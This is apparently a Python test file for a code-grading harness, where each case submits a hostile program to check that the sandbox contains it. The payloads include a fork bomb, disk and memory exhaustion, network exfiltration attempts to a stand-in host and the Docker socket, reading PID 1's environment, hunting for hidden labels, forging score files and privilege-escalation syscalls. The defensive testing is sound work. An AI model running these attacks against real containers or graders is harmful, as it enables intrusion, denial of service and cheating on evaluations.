"""Runtime attacks from inside the sandbox, each through the whole pipeline with the real data.

``tests/test_sandbox_docker.py`` attacks each protection of a bare container; here the same
attacks come from a submission and the report must say what happened (verdict, message),
while the invariants prove nothing left the sandbox.
"""

from __future__ import annotations

from harness.models import Verdict

from .builders import MANIFEST, script, write_tree
from .catalogue import Case, Env, Expect, snapshot
from .variants import APPLIED_ML

SHORT = 4.0
"""Wall-clock limit for cases that hang (the pipeline enforces it from outside)."""


def _sub(env: Env, body: str, header: str = ""):
    return write_tree(env.tmp / "submission", {"predict.py": script(body, header=header), "submission.toml": MANIFEST})


def _stdout_has(*needles: str, absent: tuple[str, ...] = ()):
    def check(outcome, env: Env) -> None:
        text = outcome.report.sandbox.stdout.text
        for needle in needles:
            assert needle in text, (needle, text[-1500:])
        for needle in absent:
            assert needle not in text, (needle, text[-1500:])

    return check


def _bounded(seconds: float):
    def check(outcome, env: Env) -> None:
        assert outcome.report.sandbox.duration_s < seconds, outcome.report.sandbox.duration_s

    return check


def _graded_from_the_original(outcome) -> None:
    """Lint read the original predict.py (one file, its real length), not the rewritten,
    one-line copy or the module planted beside it."""
    metrics = outcome.report.metrics
    assert metrics.get("quality.files_linted") == 1 and metrics.get("quality.loc", 0) > 10, metrics
    assert outcome.report.assignment.id == "applied_ml"


def _all(*checks):
    def check(outcome, env: Env) -> None:
        for one in checks:
            one(outcome, env)

    return check


ATTEMPT = """
def attempt(name, fn):
    try:
        result = fn()
        print(f"{name}: SUCCEEDED {result!r}"[:300], flush=True)
    except BaseException as exc:
        print(f"{name}: blocked ({type(exc).__name__}: {exc})"[:300], flush=True)
"""


def _flood_is_capped(outcome, env: Env) -> None:
    run = outcome.report.sandbox
    assert run.stdout.total_bytes >= 60 * 2**20 and run.stdout.truncated
    assert run.stderr.total_bytes >= 60 * 2**20 and run.stderr.truncated
    assert (outcome.out_dir / "report.json").stat().st_size < 400_000
    assert (outcome.out_dir / "report.html").stat().st_size < 800_000
    kept = outcome.out_dir / "artifacts" / "stdout.txt"
    assert kept.stat().st_size <= 8 * 2**20, "the kept log is not capped"


def _late_writer_ignored(outcome, env: Env) -> None:
    assert outcome.report.metrics.get("f1") == 0.0, "a process outliving main() changed the predictions"
    assert outcome.report.sandbox.duration_s < 30


def _forged_files_ignored(outcome, env: Env) -> None:
    report = outcome.report
    assert report.sandbox.exit_code == 3 and report.sandbox.verdict == Verdict.CRASHED
    assert report.score is not None and report.score < 50
    ours = (outcome.out_dir / "report.json").read_text()
    assert '"schema_version"' in ours and '"score": 100.0' not in ours, (
        "the candidate's report.json took the place of ours"
    )


def _hidden_tests_untouched(outcome, env: Env) -> None:
    assert snapshot(APPLIED_ML / "hidden_tests") == env.extra["hidden_tests"], "the hidden tests changed"
    pytest_result = next(g for g in outcome.report.graders if g.grader == "pytest")
    assert pytest_result.measurements.get("score", 1) < 1


def _import_time_attack(env: Env):
    env.extra["hidden_tests"] = snapshot(APPLIED_ML / "hidden_tests")
    header = (
        ATTEMPT
        + """
attempt("write /tests", lambda: open("/tests/conftest.py", "a").write("x"))
attempt("write /submission", lambda: open("/submission/predict.py", "a").write("x"))
attempt("network", lambda: __import__("socket").create_connection(("1.1.1.1", 80), timeout=2))
"""
    )
    return _sub(env, "write_all_ham()", header=header)


CASES = [
    Case(
        "fork_bomb",
        "runtime",
        "a fork bomb (every child forks again), then the real work",
        lambda env: _sub(
            env,
            """
             import time
             for n in range(100000):
                 try:
                     pid = os.fork()
                 except OSError as exc:
                     print(f"fork refused after {n} children: {exc.strerror}", flush=True)
                     break
                 if pid == 0:
                     while True:
                         try:
                             os.fork()
                         except OSError:
                             time.sleep(0.05)
             write_all_ham()
         """,
        ),
        Expect(verdict=Verdict.OK, check=_stdout_has("fork refused"), note="stopped at the pids limit"),
    ),
    Case(
        "memory_hog",
        "runtime",
        "allocates memory until something gives",
        lambda env: _sub(
            env,
            """
             blocks = []
             while True:
                 blocks.append(bytearray(256 * 2**20))
         """,
        ),
        Expect(verdict=Verdict.OUT_OF_MEMORY, messages=("out_of_memory",), max_score=30),
    ),
    Case(
        "tmp_filler",
        "runtime",
        "fills /tmp (tmpfs) with 64 MB files until it is full, then the real work",
        lambda env: _sub(
            env,
            """
             for n in range(100):
                 try:
                     with open(f"/tmp/fill{n}", "wb") as fh:
                         fh.write(b"\\1" * (64 * 2**20))
                 except OSError as exc:
                     print(f"/tmp full after {n} files: {exc.strerror}", flush=True)
                     break
             write_all_ham()
         """,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_stdout_has("/tmp full after"),
            note="the write fails inside (tmpfs size); the run goes on",
        ),
    ),
    Case(
        "output_disk_filler",
        "runtime",
        "writes 32 MB files into /output without end",
        lambda env: _sub(
            env,
            """
             n = 0
             while True:
                 with open(OUT / f"fill{n}.bin", "wb") as fh:
                     fh.write(b"\\1" * (32 * 2**20))
                 n += 1
         """,
        ),
        Expect(verdict=Verdict.CRASHED, messages=("output_quota",), max_score=30),
    ),
    Case(
        "output_inode_filler",
        "runtime",
        "creates 20,000 empty files in /output",
        lambda env: _sub(
            env,
            """
             import time
             for n in range(20000):
                 open(OUT / f"f{n}", "w").close()
             time.sleep(5)
             write_all_ham()
         """,
        ),
        Expect(verdict=Verdict.CRASHED, messages=("output_quota",), max_score=30),
        timeout_s=30,
    ),
    Case(
        "workspace_disk_filler",
        "runtime",
        "writes 32 MB files into its writable working copy without end",
        lambda env: _sub(
            env,
            """
             import os
             n = 0
             while True:
                 with open(f"fill{n}.bin", "wb") as fh:
                     fh.write(b"\\1" * (32 * 2**20))
                 n += 1
         """,
        ),
        Expect(verdict=Verdict.CRASHED, messages=("output_quota",), max_score=30),
    ),
    Case(
        "workspace_inode_filler",
        "runtime",
        "creates 20,000 empty files in its writable working copy",
        lambda env: _sub(
            env,
            """
             import time
             for n in range(20000):
                 open(f"f{n}", "w").close()
             time.sleep(5)
             write_all_ham()
         """,
        ),
        Expect(verdict=Verdict.CRASHED, messages=("output_quota",), max_score=30),
        timeout_s=30,
    ),
    Case(
        "infinite_loop",
        "runtime",
        "loops forever",
        lambda env: _sub(env, "while True:\n    pass"),
        Expect(verdict=Verdict.TIMEOUT, messages=("timeout",), max_score=30, check=_bounded(SHORT + 10)),
        timeout_s=SHORT,
    ),
    Case(
        "sleeps_past_the_limit",
        "runtime",
        "sleeps for an hour",
        lambda env: _sub(env, "import time\ntime.sleep(3600)"),
        Expect(verdict=Verdict.TIMEOUT, messages=("timeout",), max_score=30, check=_bounded(SHORT + 10)),
        timeout_s=SHORT,
    ),
    Case(
        "ignores_sigterm",
        "runtime",
        "ignores SIGTERM, SIGINT and SIGHUP and loops",
        lambda env: _sub(
            env,
            """
             import signal
             for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                 signal.signal(sig, signal.SIG_IGN)
             while True:
                 pass
         """,
        ),
        Expect(verdict=Verdict.TIMEOUT, messages=("timeout",), max_score=30, check=_bounded(SHORT + 10)),
        timeout_s=SHORT,
    ),
    Case(
        "stdout_stderr_flood",
        "runtime",
        "64 MB to stdout and 64 MB to stderr, then the real work",
        lambda env: _sub(
            env,
            """
             line = "<b>flood</b> \\x1b[31m" + "x" * 1000 + "\\n"
             for _ in range(64 * 1024):
                 sys.stdout.write(line)
                 sys.stderr.write(line)
             write_all_ham()
         """,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_flood_is_capped,
            note="streams go to files; head and tail kept, reports stay small",
        ),
    ),
    Case(
        "background_process_outlives_main",
        "runtime",
        "a detached grandchild that rewrites predictions.csv as all-spam after main() has exited",
        lambda env: _sub(
            env,
            """
             import subprocess, textwrap
             late = textwrap.dedent('''
                 import os, time
                 time.sleep(2)
                 ids = [line.split(",")[0] for line in open("/data/test.csv")][1:]
                 with open("/output/predictions.csv", "w") as fh:
                     fh.write("id,label\\\\n" + "".join(f"{i},spam\\\\n" for i in ids))
                 time.sleep(600)
             ''')
             subprocess.Popen([sys.executable, "-c", late], start_new_session=True,
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
             write_all_ham()
         """,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_late_writer_ignored,
            note="the container ends with main(); late writes never land",
        ),
    ),
    Case(
        "network_exfiltration",
        "runtime",
        "TCP, UDP, DNS, raw ICMP, IPv6, the Docker socket and the Docker bridge, then the real work",
        lambda env: _sub(
            env,
            """
             import socket
             attempt("tcp", lambda: socket.create_connection(("1.1.1.1", 443), timeout=2))
             attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"labels?", ("8.8.8.8", 53)))
             attempt("dns", lambda: socket.getaddrinfo("exfil.example.com", 80))
             attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
             attempt("ipv6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), timeout=2))
             attempt("bridge", lambda: socket.create_connection(("172.17.0.1", 2375), timeout=2))
             attempt("docker.sock", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
             write_all_ham()
         """,
            header=ATTEMPT,
        ),
        Expect(
            verdict=Verdict.OK,
            messages=("network_blocked",),
            check=_stdout_has(
                "tcp: blocked",
                "udp: blocked",
                "dns: blocked",
                "raw: blocked",
                "ipv6: blocked",
                "bridge: blocked",
                "docker.sock: blocked",
                absent=("SUCCEEDED",),
            ),
            note="every attempt fails; the run goes on",
        ),
    ),
    Case(
        "reads_host_environment",
        "runtime",
        "prints its environment, PID 1's environment and the host's hostname",
        lambda env: _sub(
            env,
            """
             print(dict(os.environ))
             attempt("pid1 environ", lambda: open("/proc/1/environ", "rb").read())
             attempt("hostname", lambda: open("/etc/hostname").read())
             write_all_ham()
         """,
            header=ATTEMPT,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_stdout_has("DATA_DIR", absent=("HOLDOUT_HOST_SECRET",)),
            note="the host secret in the harness's environment never shows up",
        ),
    ),
    Case(
        "searches_filesystem_for_labels",
        "runtime",
        "walks the whole filesystem and the mount table for the hidden labels and submits what it finds",
        lambda env: _sub(
            env,
            """
             import re
             found = []
             test = set(test_ids())
             print(open("/proc/self/mountinfo").read(), flush=True)
             for root, dirs, files in os.walk("/", onerror=lambda e: None):
                 if root.startswith(("/proc", "/sys", "/dev")):
                     dirs[:] = []
                     continue
                 for name in files:
                     path = os.path.join(root, name)
                     if re.search(r"label|hidden|holdout|answer", name, re.I) or name.endswith(".csv"):
                         try:
                             text = open(path, errors="replace").read(4 * 2**20)
                         except OSError:
                             continue
                         if ",spam" in text and any(i in text for i in list(test)[:50]):
                             found.append(path)
             print(f"label files found: {found}", flush=True)
             if found:
                 import shutil
                 shutil.copy(found[0], OUT / "predictions.csv")
             else:
                 write_all_ham()
         """,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_stdout_has("label files found: []"),
            note="finds nothing: hidden labels are never mounted",
        ),
    ),
    Case(
        "forges_report_and_runner_files",
        "runtime",
        "writes report.json/score.txt/junit.xml into /output, forges runner.json, then exits 3",
        lambda env: _sub(
            env,
            """
             import json
             write_all_ham()
             (OUT / "report.json").write_text(json.dumps({"status": "graded", "score": 100.0}))
             (OUT / "score.txt").write_text("100\\n")
             (OUT / "junit.xml").write_text("<testsuites tests='1' failures='0'/>")
             runner = {"mode": "script", "exit_code": 0, "peak_rss_mb": 1.0, "cell_errors": [], "killed": None}
             json.dump(runner, open("/holdout/logs/runner.json", "w"))
             os._exit(3)
         """,
        ),
        Expect(
            verdict=Verdict.CRASHED,
            messages=("crashed",),
            check=_forged_files_ignored,
            note="verdict from the engine's exit status; our report.json is the one written",
        ),
    ),
    Case(
        "writes_into_submission_and_data",
        "runtime",
        "tries to rewrite its own code, the public data and paths above /output, then the real work",
        lambda env: _sub(
            env,
            """
             attempt("submission", lambda: open("/submission/predict.py", "a").write("# changed"))
             attempt("new file", lambda: open("/submission/planted.py", "w").write("x"))
             attempt("data", lambda: open(DATA / "test.csv", "a").write("x,y"))
             attempt("data rename", lambda: os.rename(DATA / "train.csv", DATA / "t.csv"))
             attempt("above output", lambda: open("/output/../planted", "w").write("x"))
             attempt("root", lambda: open("/planted", "w").write("x"))
             write_all_ham()
         """,
            header=ATTEMPT,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_stdout_has(
                "submission: blocked",
                "data: blocked",
                "data rename: blocked",
                "above output: blocked",
                absent=("SUCCEEDED",),
            ),
            note="every write refused (read-only mounts); submission and data unchanged",
        ),
    ),
    Case(
        "rewrites_its_working_copy",
        "runtime",
        "rewrites predict.py and submission.toml in its writable working copy and plants a module there, "
        "then the real work",
        lambda env: _sub(
            env,
            """
             attempt("working copy", lambda: open("predict.py", "w").write("raise SystemExit('rewritten')\\n"))
             attempt("manifest", lambda: open("submission.toml", "w").write('assignment = "genai_rag"\\n'))
             attempt("planted", lambda: open("planted.py", "w").write("import os, sys\\nx=1;y=2\\n"))
             attempt("original", lambda: open("/submission/predict.py", "a").write("# changed"))
             write_all_ham()
         """,
            header=ATTEMPT,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_all(
                _stdout_has("working copy: SUCCEEDED", "planted: SUCCEEDED", "original: blocked"),
                lambda outcome, env: _graded_from_the_original(outcome),
            ),
            note="the writes into the copy succeed; lint sees the original submission",
        ),
    ),
    Case(
        "modifies_image_python",
        "runtime",
        "tries to plant sitecustomize.py, patch site-packages, the runner and the interpreter",
        lambda env: _sub(
            env,
            """
             import sysconfig
             site = sysconfig.get_paths()["purelib"]
             attempt("sitecustomize", lambda: open(site + "/sitecustomize.py", "w").write("print('owned')"))
             attempt("sklearn", lambda: open(site + "/sklearn/__init__.py", "a").write("x = 1"))
             attempt("runner", lambda: open("/opt/holdout/entry.py", "a").write("x = 1"))
             attempt("python", lambda: open(os.path.realpath(sys.executable), "ab").write(b"x"))
             attempt("pth", lambda: open(site + "/evil.pth", "w").write("import os"))
             write_all_ham()
         """,
            header=ATTEMPT,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_stdout_has("sitecustomize: blocked", "runner: blocked", "python: blocked", absent=("SUCCEEDED",)),
            note="every write refused: the image is read-only and each run starts fresh",
        ),
    ),
    Case(
        "privilege_escalation",
        "runtime",
        "setuid(0), mount, unshare, chroot, keyctl, raw device access",
        lambda env: _sub(
            env,
            """
             import ctypes
             libc = ctypes.CDLL(None, use_errno=True)
             def check(rc):
                 if rc != 0:
                     raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
                 return rc
             attempt("setuid", lambda: os.setuid(0))
             attempt("mount", lambda: check(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
             attempt("unshare", lambda: check(libc.unshare(0x10000000)))
             attempt("chroot", lambda: os.chroot("/tmp"))
             attempt("keyctl", lambda: check(libc.syscall(250, 1, 0)))
             attempt("disk", lambda: open("/dev/sda", "rb"))
             attempt("kmsg", lambda: open("/dev/kmsg", "rb").read(10))
             write_all_ham()
         """,
            header=ATTEMPT,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_stdout_has(
                "setuid: blocked",
                "mount: blocked",
                "unshare: blocked",
                "chroot: blocked",
                "disk: blocked",
                absent=("SUCCEEDED",),
            ),
            note="every attempt refused (no capabilities, seccomp)",
        ),
    ),
    Case(
        "ptrace_freezes_init",
        "runtime",
        "ptrace-attaches PID 1 and the in-container runner so the container cannot finish",
        lambda env: _sub(
            env,
            """
             import ctypes
             libc = ctypes.CDLL(None, use_errno=True)
             write_all_ham()
             for pid in (1, os.getppid()):
                 print(pid, "attach:", libc.ptrace(16, pid, None, None), flush=True)
         """,
        ),
        Expect(
            verdict=Verdict.OK,
            check=_all(_bounded(SHORT + 10), _stdout_has("attach: -1", absent=("attach: 0",))),
            note="both refused: init is root and the runner another uid, and the candidate has no capability; "
            "the kill from outside stays the backstop",
        ),
        timeout_s=SHORT,
    ),
    Case(
        "import_time_attack_on_hidden_tests",
        "runtime",
        "module-level code (run again when the hidden tests import predict.py) attacks /tests, /submission "
        "and the network",
        _import_time_attack,
        Expect(
            verdict=Verdict.OK,
            messages=("hidden_tests_failed",),
            runs=2,
            check=_all(_hidden_tests_untouched, _stdout_has("write /tests: blocked", absent=("SUCCEEDED",))),
            note="/tests and /submission are read-only; the hidden tests are unchanged",
        ),
        assignment="real",
    ),
]
